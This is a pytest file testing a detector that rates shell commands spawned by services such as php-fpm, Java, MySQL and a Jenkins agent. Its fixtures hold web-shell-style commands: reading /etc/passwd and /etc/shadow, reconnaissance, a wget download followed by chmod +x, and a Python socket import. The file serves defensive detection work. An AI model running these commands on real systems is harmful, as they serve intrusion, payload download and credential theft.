from datetime import timedelta

import pytest

from detect.made_processes import NOW, running, worst
from hemostat.detect.checks.process_service_commands import commands_of_service
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import Process

PHP = running(40, "/usr/sbin/php-fpm8.2", account="www-data", euid=33)
JAVA = running(40, "/opt/jre/bin/java", "java", "-jar", "x.jar", account="root", euid=0)
OLD = NOW - timedelta(minutes=10)


def shell(code: str, cwd: str = "/var/www/html", **fields: object) -> Process:
    return running(50, "/usr/bin/dash", "sh", "-c", code, ppid=40, cwd=HostPath(cwd), **fields)


@pytest.mark.requirement("A5.12")
@pytest.mark.parametrize(
    ("child", "level"),
    [
        (shell("id; uname -a; cat /etc/passwd; sleep 3600; :", "/tmp"), Level.HIGH),
        (shell("whoami && netstat -an"), Level.MEDIUM),
        (shell("/var/tmp/.x/a -d"), Level.MEDIUM),
        (shell("wget -q 203.0.113.5/a -O b; chmod +x b"), Level.MEDIUM),
        (shell("php artisan queue:work; true"), None),
        (shell("ffmpeg -i a b && rm a", "/tmp"), None),
        (shell("bash -c 'php a.php'", started=OLD), None),
    ],
)
def test_what_a_pages_shell_does_decides(child: Process, level: Level | None) -> None:
    assert worst(commands_of_service, PHP, child) == level


def test_a_java_service_of_root_is_asked_for_the_plainest_signs_only() -> None:
    assert worst(commands_of_service, JAVA, shell("id; cat /etc/shadow")) == Level.MEDIUM
    assert worst(commands_of_service, JAVA, shell("sleep 5; kill 4", "/tmp")) is None


def test_a_shell_that_stays_below_a_database_is_worth_a_look() -> None:
    base = running(40, "/usr/sbin/mysqld", account="mysql", euid=27)
    stays = shell("while :; do cat x; sleep 9; done", "/var/lib/mysql", started=OLD)
    assert worst(commands_of_service, base, stays) == Level.MEDIUM
    assert worst(commands_of_service, base, shell("cat x; sleep 9", "/var/lib/mysql")) is None


def test_a_build_servers_steps_are_quiet() -> None:
    agent = running(40, "/usr/bin/java", "java", "-jar", "/opt/agent.jar", account="jenkins")
    assert worst(commands_of_service, agent, shell("id; uname -a", "/tmp")) is None


def test_inline_code_of_a_language_needs_powers_or_a_temporary_folder() -> None:
    def python(code: str, cwd: str = "/srv") -> Process:
        argv = ("python3", "-c", code)
        return running(50, "/usr/bin/python3.11", *argv, ppid=40, cwd=HostPath(cwd))

    assert worst(commands_of_service, PHP, python("import socket,os")) == Level.MEDIUM
    assert worst(commands_of_service, PHP, python("print(1)", "/dev/shm")) == Level.MEDIUM
    assert worst(commands_of_service, PHP, python("print(1)")) is None
